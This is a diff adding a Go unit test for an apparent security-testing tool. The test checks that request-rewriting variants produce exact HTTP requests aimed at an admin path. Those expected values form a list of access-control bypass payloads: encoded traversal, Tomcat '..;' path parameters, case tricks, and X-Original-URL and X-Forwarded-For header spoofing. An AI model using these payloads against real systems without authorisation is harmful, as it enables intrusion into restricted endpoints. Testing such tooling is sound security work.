@@ -0,0 +1,54 @@
+package tools
+
+import "testing"
+
+func TestBypassVariants(t *testing.T) {
+	raw := "GET /admin/panel?x=1 HTTP/1.1\r\nHost: a.com\r\n\r\n"
+	want := map[string]string{
+		"uppercase":           "GET /ADMIN/PANEL?x=1 HTTP/1.1\r\nHost: a.com\r\n\r\n",
+		"capitalized-segment": "GET /admin/Panel?x=1 HTTP/1.1\r\nHost: a.com\r\n\r\n",
+		"double-slash":        "GET //admin/panel?x=1 HTTP/1.1\r\nHost: a.com\r\n\r\n",
+		"encoded-dot-dot":     "GET /admin/x/%2e%2e/panel?x=1 HTTP/1.1\r\nHost: a.com\r\n\r\n",
+		"tomcat-path-param":   "GET /admin/..;/admin/panel?x=1 HTTP/1.1\r\nHost: a.com\r\n\r\n",
+		"encoded-last-char":   "GET /admin/pane%6C?x=1 HTTP/1.1\r\nHost: a.com\r\n\r\n",
+		"x-original-url":      "GET /?x=1 HTTP/1.1\r\nHost: a.com\r\nX-Original-URL: /admin/panel\r\n\r\n",
+		"x-forwarded-for":     "GET /admin/panel?x=1 HTTP/1.1\r\nHost: a.com\r\nX-Forwarded-For: 127.0.0.1\r\n\r\n",
+		"http-1.0":            "GET /admin/panel?x=1 HTTP/1.0\r\nHost: a.com\r\n\r\n",
+	}
+	seen := map[string]bool{}
+	for _, v := range bypassVariants {
+		if seen[v.name] {
+			t.Errorf("duplicate variant %q", v.name)
+		}
+		seen[v.name] = true
+		exp, ok := want[v.name]
+		if !ok {
+			continue
+		}
+		r, err := splitRawRequest(raw)
+		if err != nil {
+			t.Fatal(err)
+		}
+		v.apply(r, "/admin/panel", "x=1")
+		if got := r.String(); got != exp {
+			t.Errorf("%s: got %q\nwant %q", v.name, got, exp)
+		}
+	}
+	for name := range want {
+		if !seen[name] {
+			t.Errorf("missing variant %q", name)
+		}
+	}
+}
+
+func TestLastSegment(t *testing.T) {
+	for _, tc := range []struct{ path, dir, seg string }{
+		{"/admin/panel", "/admin/", "panel"},
+		{"/admin/", "/", "admin/"},
+		{"/", "/", ""},
+	} {
+		if dir, seg := lastSegment(tc.path); dir != tc.dir || seg != tc.seg {
+			t.Errorf("lastSegment(%q) = %q, %q; want %q, %q", tc.path, dir, seg, tc.dir, tc.seg)
+		}
+	}
+}